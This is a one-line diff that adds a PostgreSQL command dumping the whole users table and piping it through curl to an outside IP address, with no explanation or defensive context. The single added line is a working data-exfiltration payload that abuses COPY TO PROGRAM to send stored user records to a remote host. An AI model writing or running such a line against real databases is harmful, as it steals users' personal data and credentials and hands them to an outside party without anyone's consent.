@@ -1,0 +1,1 @@
+COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://203.0.113.5/';
